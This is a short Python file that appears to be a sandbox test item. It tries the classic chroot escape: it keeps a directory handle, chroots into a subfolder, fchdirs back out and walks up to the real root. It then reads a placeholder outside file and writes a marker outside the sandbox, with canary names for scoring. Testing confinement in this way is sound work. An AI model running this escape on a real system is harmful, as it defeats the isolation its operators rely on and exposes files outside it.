"""Leaves a chroot in the classic way: chroot into a folder below while standing above it, then walk up.

base: unsolved
max-score: 0
canary: outside-file, leak
"""
# %% q1
import os

loot = ""
os.makedirs("cage", exist_ok=True)
try:
    above = os.open(".", os.O_RDONLY)
    os.chroot("cage")
    os.fchdir(above)
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    loot = open("@OUTSIDE_FILE@").read()
    open("@OUTSIDE_DIR@/chroot", "w").write("x")
except OSError as error:
    loot = type(error).__name__
raise RuntimeError(loot)
